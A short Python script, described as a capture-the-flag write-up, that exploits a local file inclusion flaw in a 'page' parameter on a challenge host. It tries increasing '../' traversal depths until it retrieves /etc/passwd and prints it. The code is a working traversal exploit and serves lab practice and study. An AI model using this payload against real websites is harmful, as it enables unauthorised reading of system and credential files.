import requests

# CTF write-up: LFI in ?page= parameter
URL = "http://challenge.local:8080/index.php"
for depth in range(1, 10):
    payload = "../" * depth + "etc/passwd"
    r = requests.get(URL, params={"page": payload})
    if "root:x:0:0" in r.text:
        print("depth", depth, "works")
        print(r.text)
        break
